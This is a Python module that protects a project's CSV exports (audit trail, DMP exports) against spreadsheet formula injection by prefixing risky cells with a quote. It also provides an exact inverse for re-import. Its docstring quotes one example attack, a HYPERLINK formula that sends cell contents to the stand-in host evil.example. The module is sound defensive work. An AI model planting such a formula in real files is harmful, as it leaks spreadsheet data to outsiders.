"""Cells of the CSV files Kura hands out, so that a spreadsheet shows them as text.

A spreadsheet reads a cell that starts with ``=``, ``+``, ``-`` or ``@`` (or a tab or
carriage return) as a formula (OWASP, "CSV injection"): a cell such as
``=HYPERLINK("http://evil.example/?"&A1,"click")`` written by one person would run on the
computer of whoever opens the file. Kura's CSVs (the audit trail, the DMP exports) hold
text written by researchers and outsiders, so every cell goes through :func:`csv_cell`.

The DMP CSV is also read back in; :func:`csv_cell_text` undoes :func:`csv_cell` exactly,
so export → import → export gives the same file.
"""

import re

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")

# A plain signed number ("-5", "+81", "-0.25") or a lone "-" placeholder is inert: a
# spreadsheet reads it as that number or that text and runs nothing, so it stays as
# written ("-12" must not become "'-12" in a funder's table).
_INERT = re.compile(r"[+-]?\d+(?:\.\d+)?|-")


def _needs_quote(value: str) -> bool:
    # Leading quotes count as part of the prefix: "'=x" is written "''=x", so that the
    # reader, which removes one quote before a formula start, gives "'=x" back.
    core = value.lstrip("'")
    return core.startswith(FORMULA_STARTS) and not _INERT.fullmatch(core)


def csv_cell(value: str) -> str:
    """``value`` as a spreadsheet shows it as text: a leading ``'`` where it would start a
    formula."""
    return "'" + value if _needs_quote(value) else value


def csv_cell_text(cell: str) -> str:
    """The value :func:`csv_cell` wrote as ``cell`` (the inverse: a cell it did not
    quote comes back unchanged)."""
    return cell[1:] if cell.startswith("'") and _needs_quote(cell[1:]) else cell
